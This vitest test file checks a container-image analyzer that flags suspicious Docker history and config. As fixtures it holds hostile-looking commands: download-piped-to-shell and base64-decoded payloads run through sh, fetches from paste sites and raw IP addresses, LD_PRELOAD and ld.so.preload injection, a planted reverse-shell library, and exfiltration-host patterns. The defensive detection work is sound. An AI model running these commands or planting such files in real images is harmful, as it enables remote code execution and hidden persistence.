import { describe, expect, it } from 'vitest'
import { unexplainedConfig } from '../../../../shared/analyzers/history/config-explained.js'
import { suspiciousUrl } from '../../../../shared/analyzers/history/dockerfile-lint.js'
import type { ContainerConfig, HistoryEntry, ImageConfig } from '../../../../shared/image/config.js'
import { EntryType } from '../../../../shared/layers/layer-result.js'
import { analyzeImage, DEFAULT_PATH, deleted, findingsOf, type FileSpec } from '../../../support/analyzer-image.js'

const nop = (instruction: string): HistoryEntry => ({ createdBy: `/bin/sh -c #(nop)  ${instruction}`, emptyLayer: true })
const run = (command: string): HistoryEntry => ({ createdBy: `RUN /bin/sh -c ${command} # buildkit`, emptyLayer: false })

function configOf(history: HistoryEntry[], config: Partial<ContainerConfig>): ImageConfig {
  return { architecture: 'amd64', os: 'linux', config: { env: [DEFAULT_PATH], exposedPorts: [], volumes: [], labels: {}, ...config }, diffIds: [], history }
}

describe('history-layer-count-mismatch', () => {
  it('reports a layer appended without a history entry, at that layer', async () => {
    const report = await analyzeImage({ layers: [[{ path: '/a', content: 'a' }], [{ path: '/b', content: 'b' }]], history: [{ createdBy: 'ADD rootfs /', emptyLayer: false }] })
    expect(findingsOf(report, 'history-layer-count-mismatch').map((f) => [f.location.layer, f.evidence])).toEqual([[report.image.layers[1]!.diffId, '2 layers, 1 non-empty history entries']])
  })

  it('is quiet when every layer has its entry', async () => {
    const report = await analyzeImage({ layers: [[{ path: '/a', content: 'a' }]] })
    expect(findingsOf(report, 'history-layer-count-mismatch')).toEqual([])
  })
})

describe('history-config-unexplained', () => {
  const base: HistoryEntry[] = [{ createdBy: 'ADD rootfs.tar / # buildkit', emptyLayer: false }, nop('ENV APP_HOME=/app'), nop('ENTRYPOINT ["docker-entrypoint.sh"]'), nop('CMD ["node" "server.js"]'), nop('USER app')]
  const explained: Partial<ContainerConfig> = { env: [DEFAULT_PATH, 'APP_HOME=/app'], entrypoint: ['docker-entrypoint.sh'], cmd: ['node', 'server.js'], user: 'app' }

  it.each<[string, Partial<ContainerConfig>, string, string]>([
    ['LD_PRELOAD and callback variables no ENV sets', { ...explained, env: [...explained.env!, 'LD_PRELOAD=/usr/share/lib/x.so', 'REMOTE_ADDR=203.0.113.9'] }, 'high', 'ENV LD_PRELOAD, REMOTE_ADDR set by no ENV entry'],
    ['an ordinary variable no ENV sets', { ...explained, env: [...explained.env!, 'SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt'] }, 'low', 'ENV SSL_CERT_FILE set by no ENV entry'],
    ['a replaced entrypoint', { ...explained, entrypoint: ['/tmp/x'] }, 'medium', 'ENTRYPOINT ["/tmp/x"] but the history\'s last ENTRYPOINT is ["docker-entrypoint.sh"]'],
    ['a replaced command', { ...explained, cmd: ['sh'] }, 'medium', 'CMD ["sh"] but the history\'s last CMD is ["node","server.js"]'],
    ['a user changed to root', { ...explained, user: 'root' }, 'medium', 'USER "root" but the history\'s last USER is "app"'],
  ])('reports %s', (_name, config, severity, phrase) => {
    expect(unexplainedConfig(configOf(base, config))).toEqual({ phrases: [phrase], severity })
  })

  it.each<[string, HistoryEntry[], Partial<ContainerConfig>]>([
    ['a config the history explains', base, explained],
    ['Docker\'s default PATH and a root user without USER', [{ createdBy: 'ADD rootfs /', emptyLayer: false }, nop('CMD ["bash"]')], { cmd: ['bash'], user: 'root' }],
    ['a builder that records no config instruction', [{ createdBy: 'bazel build //:image', emptyLayer: false }], { env: [DEFAULT_PATH, 'X=1'], entrypoint: ['/app'] }],
    ['a shell-form CMD that cannot be compared', [{ createdBy: 'ADD rootfs /', emptyLayer: false }, nop('CMD node server.js')], { cmd: ['/bin/sh', '-c', 'node server.js'] }],
  ])('leaves %s alone', (_name, history, config) => {
    expect(unexplainedConfig(configOf(history, config))).toBeUndefined()
  })

  it('reports through the analyzer with the config as location', async () => {
    const report = await analyzeImage({ layers: [[{ path: '/a', content: 'a' }]], history: [{ createdBy: 'ADD rootfs /', emptyLayer: false }, nop('CMD ["sh"]')], config: { cmd: ['sh'], env: [DEFAULT_PATH, 'LD_PRELOAD=/x.so'] } })
    expect(findingsOf(report, 'history-config-unexplained')).toEqual([expect.objectContaining({ severity: 'high', location: {}, evidence: 'ENV LD_PRELOAD set by no ENV entry' })])
  })
})

describe('history-layer-content-mismatch', () => {
  const APP: FileSpec[] = [{ path: '/app', type: EntryType.Directory }, { path: '/app/server.js', content: 'x' }, { path: '/app/bin/run', content: '#!/bin/sh\n', mode: 0o755 }]

  it.each<[string, HistoryEntry, FileSpec[], string, string]>([
    ['a COPY layer that also adds a library elsewhere (dockerscan trojanize)', { createdBy: 'COPY app/ /app # buildkit', emptyLayer: false }, [...APP, { path: '/usr/share/lib/reverse_shell.so', content: 'x' }], 'high', 'layer 1 is paired with "COPY app/ /app # buildkit" yet adds /usr/share/lib/reverse_shell.so outside /app'],
    ['a classic COPY layer adding a preload file', { createdBy: '/bin/sh -c #(nop) COPY dir:0123 in /app ', emptyLayer: false }, [...APP, { path: '/etc/ld.so.preload', content: '/x.so\n' }], 'high', 'layer 1 is paired with "/bin/sh -c #(nop) COPY dir:0123 in /app" yet adds /etc/ld.so.preload outside /app'],
    ['a COPY layer adding a data file elsewhere', { createdBy: 'COPY app/ /app # buildkit', emptyLayer: false }, [...APP, { path: '/var/lib/x/state', content: 'x' }], 'medium', 'layer 1 is paired with "COPY app/ /app # buildkit" yet adds /var/lib/x/state outside /app'],
    ['a config instruction with files', { createdBy: '/bin/sh -c #(nop)  CMD ["bash"]', emptyLayer: false }, [{ path: '/usr/bin/.x', content: 'x', mode: 0o755 }], 'high', 'layer 1 is paired with "/bin/sh -c #(nop)  CMD ["bash"]" yet adds /usr/bin/.x although it writes no file'],
  ])('reports %s', async (_name, entry, files, severity, evidence) => {
    const report = await analyzeImage({ layers: [[{ path: '/etc/os-release', content: 'ID=debian\n' }], files], history: [{ createdBy: 'ADD rootfs.tar / # buildkit', emptyLayer: false }, entry] })
    expect(findingsOf(report, 'history-layer-content-mismatch').map((f) => [f.severity, f.evidence, f.location.layer, f.location.history])).toEqual([[severity, evidence, report.image.layers[1]!.diffId, 1]])
  })

  it.each<[string, HistoryEntry, FileSpec[]]>([
    ['a COPY whose files are under its destination', { createdBy: 'COPY app/ /app # buildkit', emptyLayer: false }, APP],
    ['a RUN (it may write anywhere)', { createdBy: 'RUN /bin/sh -c make install # buildkit', emptyLayer: false }, [{ path: '/usr/local/lib/libx.so', content: 'x' }]],
    ['a COPY to a relative destination', { createdBy: 'COPY . . # buildkit', emptyLayer: false }, [{ path: '/srv/app/x', content: 'x' }]],
    ['a WORKDIR creating its directory', { createdBy: 'WORKDIR /app', emptyLayer: false }, [{ path: '/app', type: EntryType.Directory }]],
    ['a COPY that deletes nothing but has a whiteout', { createdBy: 'COPY x /app/x # buildkit', emptyLayer: false }, [{ path: '/app/x', content: 'x' }, deleted('/app/old')]],
  ])('leaves %s alone', async (_name, entry, files) => {
    const report = await analyzeImage({ layers: [[{ path: '/etc/os-release', content: 'ID=debian\n' }], files], history: [{ createdBy: 'ADD rootfs.tar / # buildkit', emptyLayer: false }, entry] })
    expect(findingsOf(report, 'history-layer-content-mismatch')).toEqual([])
  })
})

describe('Dockerfile checks on the history', () => {
  async function lint(commands: HistoryEntry[]): Promise<Array<[string, string, string | undefined]>> {
    const report = await analyzeImage({ layers: [[{ path: '/etc/os-release', content: 'ID=debian\n' }]], history: [{ createdBy: 'ADD rootfs.tar / # buildkit', emptyLayer: false }, ...commands.map((c) => ({ ...c, emptyLayer: true }))] })
    return report.findings.filter((f) => f.category === 'history').map((f) => [f.ruleId, f.severity, f.evidence])
  }

  it.each<[string, HistoryEntry, string, string]>([
    ['curl | sh', run('curl -fsSL https://get.example.com | sh'), 'history-download-piped-to-shell', 'medium'],
    ['a decoded payload', run('echo ZWNobyBoaQ== | base64 -d | sh'), 'history-decoded-payload-run', 'high'],
    ['sudo', run('sudo apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*'), 'history-sudo', 'medium'],
    ['sudo after a separator', run('cd /src && sudo make install'), 'history-sudo', 'medium'],
    ['apt-get update alone', run('apt-get update'), 'history-apt-update-alone', 'medium'],
    ['apt-get install with recommends', run('apt-get update && apt-get install -y curl'), 'history-apt-install-recommends', 'low'],
    ['dist-upgrade', run('apt-get update && apt-get -y dist-upgrade'), 'history-apt-dist-upgrade', 'low'],
    ['ADD from a URL', { createdBy: 'ADD https://example.com/tool.tar.gz /opt/ # buildkit', emptyLayer: false }, 'history-add-remote-url', 'medium'],
    ['ADD from a URL with a checksum', { createdBy: 'ADD --checksum=sha256:0123 https://example.com/tool /opt/tool # buildkit', emptyLayer: false }, 'history-add-remote-url', 'low'],
    ['ADD of local files', { createdBy: 'ADD config.yml /etc/app/ # buildkit', emptyLayer: false }, 'history-add-instead-of-copy', 'info'],
    ['a download from a paste site', run('wget -O /tmp/x https://pastebin.com/raw/abcd'), 'history-download-from-suspicious-host', 'medium'],
    ['a download from a public IP address', run('curl -o /x http://198.51.100.7:8080/x'), 'history-download-from-suspicious-host', 'medium'],
    ['a download from a private IP address', run('curl -o /x http://10.1.2.3/x'), 'history-download-from-suspicious-host', 'low'],
    ['a script from a moving branch', run('curl -o /x.sh https://raw.githubusercontent.com/o/r/main/x.sh'), 'history-download-from-suspicious-host', 'low'],
  ])('reports %s', async (_name, entry, ruleId, severity) => {
    expect((await lint([entry])).map(([id, s]) => [id, s])).toContainEqual([ruleId, severity])
  })

  it.each<[string, HistoryEntry]>([
    ['a clean apt install', run('apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*')],
    ['apt upgrade (recommended for security fixes)', run('apt-get update && apt-get -y upgrade && rm -rf /var/lib/apt/lists/*')],
    ['installing the sudo package', run('apt-get update && apt-get install -y --no-install-recommends sudo && rm -rf /var/lib/apt/lists/*')],
    ['a download kept and verified', run('curl -fsSLo /tmp/x.tgz https://example.com/x.tgz && echo "abc  /tmp/x.tgz" | sha256sum -c -')],
    ['an ADD of an archive', { createdBy: 'ADD app.tar.gz /opt/ # buildkit', emptyLayer: false }],
    ['the classic rootfs ADD', { createdBy: '/bin/sh -c #(nop) ADD file:0123abcd in / ', emptyLayer: false }],
    ['a discord.com page that is not a webhook', run('curl -o /x https://discord.com/download')],
  ])('leaves %s alone', async (_name, entry) => {
    expect(await lint([entry])).toEqual([])
  })

  it.each<[string, string | undefined]>([
    ['http://abc.onion/x', 'Tor hidden service'],
    ['https://x.ngrok-free.app/p', 'tunnel'],
    ['https://api.telegram.org/bot123/sendMessage', 'chat bot API'],
    ['https://discord.com/api/webhooks/1/x', 'chat webhook'],
    ['http://999.1.1.1/x', undefined],
    ['https://deb.debian.org/debian', undefined],
  ])('suspiciousUrl(%s)', (url, reason) => {
    expect(suspiciousUrl(url)?.reason).toBe(reason)
  })
})

describe('history-package-cache-left', () => {
  const lists = (size: number): FileSpec[] => [
    { path: '/var/lib/apt/lists/lock', content: '' },
    { path: '/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages.lz4', content: Buffer.alloc(size, 1) },
  ]

  it('reports apt lists left by an install, at the layer that left them', async () => {
    const report = await analyzeImage({ layers: [[], lists(20_000)], history: [{ createdBy: 'ADD rootfs /', emptyLayer: false }, run('apt-get update && apt-get install -y --no-install-recommends curl')] })
    expect(findingsOf(report, 'history-package-cache-left')).toEqual([
      expect.objectContaining({
        severity: 'low',
        location: { layer: report.image.layers[1]!.diffId, path: '/var/lib/apt/lists', history: 1 },
        evidence: 'apt package lists: 1 files, 20000 bytes (20.0 kB), mostly from layer 1 (RUN apt-get update && apt-get install -y --no-install-recommends curl)',
      }),
    ])
  })

  it.each<[string, FileSpec[][]]>([
    ['lists removed in a later layer', [[], lists(20_000), [deleted('/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages.lz4')]]],
    ['only the lock file and a stray small file', [[], lists(100)]],
    ['an apk cache directory kept empty', [[{ path: '/var/cache/apk', type: EntryType.Directory }]]],
  ])('leaves %s alone', async (_name, layers) => {
    const report = await analyzeImage({ layers })
    expect(findingsOf(report, 'history-package-cache-left')).toEqual([])
  })

  it('reports pip and apk caches too', async () => {
    const report = await analyzeImage({ layers: [[{ path: '/var/cache/apk/APKINDEX.abc.tar.gz', content: Buffer.alloc(40_000) }, { path: '/root/.cache/pip/http/x', content: Buffer.alloc(40_000) }]] })
    expect(findingsOf(report, 'history-package-cache-left').map((f) => f.location.path)).toEqual(['/root/.cache/pip', '/var/cache/apk'])
  })
})
